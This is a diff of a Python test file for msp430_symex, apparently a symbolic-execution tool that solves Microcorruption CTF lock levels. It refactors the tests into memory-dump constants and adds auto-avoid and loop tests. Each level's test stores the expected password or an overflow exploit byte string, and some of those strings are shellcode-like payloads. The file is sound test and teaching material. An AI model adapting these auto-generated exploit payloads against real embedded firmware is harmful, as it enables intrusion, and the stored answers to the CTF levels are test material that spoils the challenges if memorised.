@@ -3,13 +3,35 @@ import unittest
 from msp430_symex.state import start_path_group
 from msp430_symex.exploit import generate_exploit, UnsatExploitError
 
-class TestTutorial(unittest.TestCase):
-    def test_tutorial(self):
-        """
-        Test solving the tutorial level of microcorruption.
-        """
-        dump = \
-            """0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
+
+def unlocked_input(pg):
+    """
+    Step pg until a state unlocks, and return the input it was given
+    """
+    pg.step_until_unlocked()
+    unlocked_state = list(pg.unlocked)[0]
+    winning_input, = unlocked_state.sym_input.dump(unlocked_state)
+    return winning_input.rstrip(b'\xc0')
+
+
+def exploit_input(pg):
+    """
+    Step pg until a state has an ip the input controls and an exploit can
+    be made from it, and return the exploit's input
+    """
+    while True:
+        pg.step_until_symbolic_ip()
+        sym_state = list(pg.symbolic)[0]
+        try:
+            sym_state = generate_exploit(sym_state)
+            break
+        except UnsatExploitError:
+            pg.symbolic = set()
+            pg.active.remove(sym_state)
+    return sym_state.sym_input.dump(sym_state)[0].rstrip(b'\xc0')
+
+
+TUTORIAL_DUMP = """0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
 0010:   *
 4400:   3140 0044 1542 5c01 75f3 35d0 085a 3f40   1@.D.B\.u.5..Z?@
 4410:   0000 0f93 0724 8245 5c01 2f83 9f4f 8645   .....$.E\./..O.E
@@ -47,8 +69,14 @@ ffe0:   7644 7644 7644 7644 7644 7644 7644 7644   vDvDvDvDvDvDvDvD
 fff0:   7644 7644 7644 7644 7644 7644 7644 0044   vDvDvDvDvDvDvD.D"""
 
 
+class TestTutorial(unittest.TestCase):
+    def test_tutorial(self):
+        """
+        Test solving the tutorial level of microcorruption.
+        """
+
         #TODO: automatically find avoid address via CFG
-        pg = start_path_group(dump, 0x4400, avoid=0x4454)
+        pg = start_path_group(TUTORIAL_DUMP, 0x4400, avoid=0x4454)
 
         pg.step_until_unlocked()
 
@@ -60,14 +88,18 @@ fff0:   7644 7644 7644 7644 7644 7644 7644 0044   vDvDvDvDvDvDvD.D"""
         winning_input = winning_inputs[0].rstrip(b'\xc0')
         self.assertEqual(len(winning_input), 9)
 
+    def test_tutorial_summaries(self):
+        pg = start_path_group(TUTORIAL_DUMP, 0x4400, auto_avoid=True, \
+                summaries=True)
+        self.assertEqual(len(unlocked_input(pg)), 9)
 
-class TestNewOrleans(unittest.TestCase):
-    def test_new_orleans(self):
-        """
-        Test solving the New Orleans level of microcorruption.
-        """
-        dump = \
-            """0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
+    def test_tutorial_loops(self):
+        pg = start_path_group(TUTORIAL_DUMP, 0x4400, auto_avoid=True, \
+                summaries=True, loops=True)
+        self.assertEqual(len(unlocked_input(pg)), 9)
+
+
+NEW_ORLEANS_DUMP = """0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
 0010:   *
 4400:   3140 0044 1542 5c01 75f3 35d0 085a 3f40   1@.D.B\.u.5..Z?@
 4410:   0000 0f93 0724 8245 5c01 2f83 9f4f c245   .....$.E\./..O.E
@@ -107,9 +139,17 @@ ffc0:   7a44 7a44 7a44 7a44 7a44 7a44 7a44 7a44   zDzDzDzDzDzDzDzD
 ffd0:   7a44 7a44 7a44 7a44 7a44 7a44 7a44 7a44   zDzDzDzDzDzDzDzD
 ffe0:   7a44 7a44 7a44 7a44 7a44 7a44 7a44 7a44   zDzDzDzDzDzDzDzD
 fff0:   7a44 7a44 7a44 7a44 7a44 7a44 7a44 0044   zDzDzDzDzDzDzD.D"""
+NEW_ORLEANS_INPUT = b'3E0#*nv\x00'
+
+
+class TestNewOrleans(unittest.TestCase):
+    def test_new_orleans(self):
+        """
+        Test solving the New Orleans level of microcorruption.
+        """
 
         #TODO: automatically find avoid address via CFG
-        pg = start_path_group(dump, 0x4400, avoid=0x4458)
+        pg = start_path_group(NEW_ORLEANS_DUMP, 0x4400, avoid=0x4458)
 
         pg.step_until_unlocked()
 
@@ -119,16 +159,15 @@ fff0:   7a44 7a44 7a44 7a44 7a44 7a44 7a44 0044   zDzDzDzDzDzDzD.D"""
         self.assertEqual(len(winning_inputs), 1)
 
         winning_input = winning_inputs[0].rstrip(b'\xc0')
-        self.assertEqual(winning_input, b'3E0#*nv\x00')
+        self.assertEqual(winning_input, NEW_ORLEANS_INPUT)
 
+    def test_new_orleans_loops(self):
+        pg = start_path_group(NEW_ORLEANS_DUMP, 0x4400, auto_avoid=True, \
+                loops=True)
+        self.assertEqual(unlocked_input(pg), NEW_ORLEANS_INPUT)
 
-class TestSydney(unittest.TestCase):
-    def test_sydney(self):
-        """
-        Test solving the Sydney level of microcorruption.
-        """
-        dump = \
-            """0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
+
+SYDNEY_DUMP = """0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
 0010:   *
 4400:   3140 0044 1542 5c01 75f3 35d0 085a 3f40   1@.D.B\.u.5..Z?@
 4410:   0000 0f93 0724 8245 5c01 2f83 9f4f 9445   .....$.E\./..O.E
@@ -165,10 +204,17 @@ ffc0:   7c44 7c44 7c44 7c44 7c44 7c44 7c44 7c44   |D|D|D|D|D|D|D|D
 ffd0:   7c44 7c44 7c44 7c44 7c44 7c44 7c44 7c44   |D|D|D|D|D|D|D|D
 ffe0:   7c44 7c44 7c44 7c44 7c44 7c44 7c44 7c44   |D|D|D|D|D|D|D|D
 fff0:   7c44 7c44 7c44 7c44 7c44 7c44 7c44 0044   |D|D|D|D|D|D|D.D"""
+SYDNEY_INPUT = b"%U@+DPo'"
 
 
+class TestSydney(unittest.TestCase):
+    def test_sydney(self):
+        """
+        Test solving the Sydney level of microcorruption.
+        """
+
         #TODO: automatically find avoid address via CFG
-        pg = start_path_group(dump, 0x4400, avoid=0x4454)
+        pg = start_path_group(SYDNEY_DUMP, 0x4400, avoid=0x4454)
 
         pg.step_until_unlocked()
 
@@ -178,14 +224,14 @@ fff0:   7c44 7c44 7c44 7c44 7c44 7c44 7c44 0044   |D|D|D|D|D|D|D.D"""
         self.assertEqual(len(winning_inputs), 1)
         
         winning_input = winning_inputs[0].rstrip(b'\xc0')
-        self.assertEqual(winning_input, b"%U@+DPo'")
+        self.assertEqual(winning_input, SYDNEY_INPUT)
 
+    def test_sydney_auto_avoid(self):
+        pg = start_path_group(SYDNEY_DUMP, 0x4400, auto_avoid=True)
+        self.assertEqual(unlocked_input(pg), SYDNEY_INPUT)
 
-class TestHanoi(unittest.TestCase):
-    
-    def test_hanoi(self):
-        dump = \
-            """0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
+
+HANOI_DUMP = """0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
 0010:   *
 4400:   3140 0044 1542 5c01 75f3 35d0 085a 3f40   1@.D.B\.u.5..Z?@
 4410:   0000 0f93 0724 8245 5c01 2f83 9f4f 0c46   .....$.E\./..O.F
@@ -230,8 +276,13 @@ ffd0:   4444 4444 4444 4444 4444 4444 4444 4444   DDDDDDDDDDDDDDDD
 ffe0:   4444 4444 4444 4444 4444 4444 4444 4444   DDDDDDDDDDDDDDDD
 fff0:   4444 4444 4444 4444 4444 4444 4444 0044   DDDDDDDDDDDDDD.D"""
 
+
+class TestHanoi(unittest.TestCase):
+    
+    def test_hanoi(self):
+
         #TODO: automatically find avoid address via CFG
-        pg = start_path_group(dump, 0x4400, avoid=0x4570)
+        pg = start_path_group(HANOI_DUMP, 0x4400, avoid=0x4570)
 
         pg.step_until_unlocked()
 
@@ -247,13 +298,7 @@ fff0:   4444 4444 4444 4444 4444 4444 4444 0044   DDDDDDDDDDDDDD.D"""
         self.assertEqual(winning_input[16], 0x34) # overflow with correct value
 
 
-class TestReykjavik(unittest.TestCase):
-    
-    def test_reykjavik(self):
-# Concrete running until the first input will help a lot here
-# solving once we're in the unpacked area is trivial
-        dump = \
-"""0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
+REYKJAVIK_DUMP = """0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
 0010:   *
 4400:   3140 0044 1542 5c01 75f3 35d0 085a 3f40   1@.D.B\.u.5..Z?@
 4410:   7c00 0f93 0724 8245 5c01 2f83 9f4f 3845   |....$.E\./..O8E
@@ -292,8 +337,16 @@ ffc0:   5644 5644 5644 5644 5644 5644 5644 5644   VDVDVDVDVDVDVDVD
 ffd0:   5644 5644 5644 5644 5644 5644 5644 5644   VDVDVDVDVDVDVDVD
 ffe0:   5644 5644 5644 5644 5644 5644 5644 5644   VDVDVDVDVDVDVDVD
 fff0:   5644 5644 5644 5644 5644 5644 5644 0044   VDVDVDVDVDVDVD.D"""
+REYKJAVIK_INPUT = b'\xbd\xf3'
+
+
+class TestReykjavik(unittest.TestCase):
+    
+    def test_reykjavik(self):
+# Concrete running until the first input will help a lot here
+# solving once we're in the unpacked area is trivial
         #TODO: automatically find avoid address via CFG
-        pg = start_path_group(dump, 0x4400, avoid=0x4450)
+        pg = start_path_group(REYKJAVIK_DUMP, 0x4400, avoid=0x4450)
 
         pg.step_until_unlocked()
         unlocked_state = list(pg.unlocked)[0]
@@ -303,13 +356,9 @@ fff0:   5644 5644 5644 5644 5644 5644 5644 0044   VDVDVDVDVDVDVD.D"""
 
         winning_input = winning_inputs[0].rstrip(b'\xc0')
 
-        self.assertEqual(winning_input, b'\xbd\xf3')
-
-class TestCusco(unittest.TestCase):
+        self.assertEqual(winning_input, REYKJAVIK_INPUT)
 
-    def test_cusco(self):
-        dump = \
-"""0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
+CUSCO_DUMP = """0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
 0010:   *
 4400:   3140 0044 1542 5c01 75f3 35d0 085a 3f40   1@.D.B\.u.5..Z?@
 4410:   0000 0f93 0724 8245 5c01 2f83 9f4f d445   .....$.E\./..O.E
@@ -350,8 +399,14 @@ ffc0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 ffd0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 ffe0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 fff0:   4244 4244 4244 4244 4244 4244 4244 0044   BDBDBDBDBDBDBD.D"""
+CUSCO_EXPLOIT = b'\x7fC\x8f\x10\x02O3\x12~@\x10\xff\x8e\x12\xc0\xc0\xeeC'
+
+
+class TestCusco(unittest.TestCase):
+
+    def test_cusco(self):
         #TODO: automatically find avoid address via CFG
-        pg = start_path_group(dump, 0x4400, avoid=0x443c)
+        pg = start_path_group(CUSCO_DUMP, 0x4400, avoid=0x443c)
 
         pg.step_until_symbolic_ip()
 
@@ -363,15 +418,15 @@ fff0:   4244 4244 4244 4244 4244 4244 4244 0044   BDBDBDBDBDBDBD.D"""
         winning_input = sym_state.sym_input.dump(sym_state)[0].rstrip(b'\xc0')
 
         # TODO: validate exploitability by stepping until unlocked instead of checking strings
-        exploit_str = b'\x7fC\x8f\x10\x02O3\x12~@\x10\xff\x8e\x12\xc0\xc0\xeeC'
+        exploit_str = CUSCO_EXPLOIT
         self.assertEqual(winning_input, exploit_str)
 
+    def test_cusco_auto_avoid(self):
+        pg = start_path_group(CUSCO_DUMP, 0x4400, auto_avoid=True)
+        self.assertEqual(exploit_input(pg), CUSCO_EXPLOIT)
 
-class TestWhitehorse(unittest.TestCase):
 
-    def test_whitehorse(self):
-        dump = \
-"""0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
+WHITEHORSE_DUMP = """0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
 0010:   *
 4400:   3140 3434 1542 5c01 75f3 35d0 085a 3f40   1@44.B\.u.5..Z?@
 4410:   0000 0f93 0724 8245 5c01 2f83 9f4f c445   .....$.E\./..O.E
@@ -411,8 +466,14 @@ ffc0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 ffd0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 ffe0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 fff0:   4244 4244 4244 4244 4244 4244 4244 0044   BDBDBDBDBDBDBD.D"""
+WHITEHORSE_EXPLOIT = b'\x7fC\x8f\x10\x02O3\x12~@\x10\xff\x8e\x12\xc0\xc0"4'
+
+
+class TestWhitehorse(unittest.TestCase):
+
+    def test_whitehorse(self):
         #TODO: automatically find avoid address via CFG
-        pg = start_path_group(dump, 0x4400, avoid=0x443c)
+        pg = start_path_group(WHITEHORSE_DUMP, 0x4400, avoid=0x443c)
 
         pg.step_until_symbolic_ip()
 
@@ -424,15 +485,15 @@ fff0:   4244 4244 4244 4244 4244 4244 4244 0044   BDBDBDBDBDBDBD.D"""
         winning_input = sym_state.sym_input.dump(sym_state)[0].rstrip(b'\xc0')
 
         # TODO: validate exploitability by stepping until unlocked instead of checking strings
-        exploit_str = b'\x7fC\x8f\x10\x02O3\x12~@\x10\xff\x8e\x12\xc0\xc0"4'
+        exploit_str = WHITEHORSE_EXPLOIT
         self.assertEqual(winning_input, exploit_str)
 
+    def test_whitehorse_auto_avoid(self):
+        pg = start_path_group(WHITEHORSE_DUMP, 0x4400, auto_avoid=True)
+        self.assertEqual(exploit_input(pg), WHITEHORSE_EXPLOIT)
 
-class TestMontevideo(unittest.TestCase):
 
-    def test_montevideo(self):
-        dump = \
-r"""0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
+MONTEVIDEO_DUMP = r"""0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
 0010:   *
 4400:   3140 0044 1542 5c01 75f3 35d0 085a 3f40   1@.D.B\.u.5..Z?@
 4410:   0000 0f93 0724 8245 5c01 2f83 9f4f 5846   .....$.E\./..OXF
@@ -481,8 +542,14 @@ ffc0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 ffd0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 ffe0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 fff0:   4244 4244 4244 4244 4244 4244 4244 0044   BDBDBDBDBDBDBD.D"""
+MONTEVIDEO_EXPLOIT = b'\x7fC\x8f\x10\x02O3\x12~@\x10\xff\x8e\x12\xff\xff\xeeC\x00'
+
+
+class TestMontevideo(unittest.TestCase):
+
+    def test_montevideo(self):
         #TODO: automatically find avoid address via CFG
-        pg = start_path_group(dump, 0x4400, avoid=0x443c)
+        pg = start_path_group(MONTEVIDEO_DUMP, 0x4400, avoid=0x443c)
 
         while True:
             try:
@@ -500,15 +567,16 @@ fff0:   4244 4244 4244 4244 4244 4244 4244 0044   BDBDBDBDBDBDBD.D"""
         winning_input = sym_state.sym_input.dump(sym_state)[0].rstrip(b'\xc0')
 
         # TODO: validate exploitability by stepping until unlocked instead of checking strings
-        exploit_str = b'\x7fC\x8f\x10\x02O3\x12~@\x10\xff\x8e\x12\xff\xff\xeeC\x00'
+        exploit_str = MONTEVIDEO_EXPLOIT
         self.assertEqual(winning_input, exploit_str)
 
+    def test_montevideo_summaries(self):
+        pg = start_path_group(MONTEVIDEO_DUMP, 0x4400, auto_avoid=True, \
+                summaries=True)
+        self.assertEqual(exploit_input(pg), MONTEVIDEO_EXPLOIT)
 
-class TestJohannesburg(unittest.TestCase):
 
-    def test_johannesburg(self):
-        dump = \
-        r"""0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
+JOHANNESBURG_DUMP = r"""0000:   0000 4400 0000 0000 0000 0000 0000 0000   ..D.............
 0010:   *
 4400:   3140 0044 1542 5c01 75f3 35d0 085a 3f40   1@.D.B\.u.5..Z?@
 4410:   0000 0f93 0724 8245 5c01 2f83 9f4f 3a46   .....$.E\./..O:F
@@ -555,8 +623,14 @@ ffc0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 ffd0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 ffe0:   4244 4244 4244 4244 4244 4244 4244 4244   BDBDBDBDBDBDBDBD
 fff0:   4244 4244 4244 4244 4244 4244 4244 0044   BDBDBDBDBDBDBD.D"""
+JOHANNESBURG_EXPLOIT = b'\xff\xff\x7fC\x8f\x10\x02O3\x12~@\x10\xff\x8e\x12\xff\x92\x02$\x00'
+
+
+class TestJohannesburg(unittest.TestCase):
+
+    def test_johannesburg(self):
         #TODO: automatically find avoid address via CFG
-        pg = start_path_group(dump, 0x4400, avoid=0x443c)
+        pg = start_path_group(JOHANNESBURG_DUMP, 0x4400, avoid=0x443c)
 
         while True:
             try:
@@ -574,9 +648,13 @@ fff0:   4244 4244 4244 4244 4244 4244 4244 0044   BDBDBDBDBDBDBD.D"""
         winning_input = sym_state.sym_input.dump(sym_state)[0].rstrip(b'\xc0')
 
         # TODO: validate exploitability by stepping until unlocked instead of checking strings
-        exploit_str = b'\xff\xff\x7fC\x8f\x10\x02O3\x12~@\x10\xff\x8e\x12\xff\x92\x02$\x00'
+        exploit_str = JOHANNESBURG_EXPLOIT
         self.assertEqual(winning_input, exploit_str)
 
+    def test_johannesburg_auto_avoid(self):
+        pg = start_path_group(JOHANNESBURG_DUMP, 0x4400, auto_avoid=True)
+        self.assertEqual(exploit_input(pg), JOHANNESBURG_EXPLOIT)
+
 
 if __name__ == '__main__':
     unittest.main()